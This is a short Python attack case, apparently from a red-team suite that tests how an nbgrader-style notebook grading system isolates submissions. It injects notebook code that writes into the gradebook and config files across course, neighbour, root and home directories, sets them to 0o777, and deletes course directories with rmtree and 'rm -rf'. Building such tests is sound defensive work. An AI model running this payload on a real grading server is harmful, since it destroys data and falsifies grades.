"""Overwrites gradebook, sources, releases and other submissions (point 3)."""

from redteam.tools import World, everywhere

BASE = "honest"


def attack(notebook, world: World) -> None:
    everywhere(
        notebook,
        world,
        """
        import os
        import shutil

        for place in (COURSE, CANARY, NEIGHBOUR, "../..", "../../..", "/", "/home"):
            for name in ("gradebook.db", "canary.txt", "nbgrader_config.py", MARK, "course.secret"):
                try:
                    with open(os.path.join(place, name), "a") as file:
                        file.write(MARK)
                    os.chmod(os.path.join(place, name), 0o777)
                except OSError:
                    pass
            if place.startswith((COURSE, CANARY, NEIGHBOUR)):
                shutil.rmtree(place, ignore_errors=True)
                os.system(f"rm -rf '{place}' 2>&1")
        """,
    )
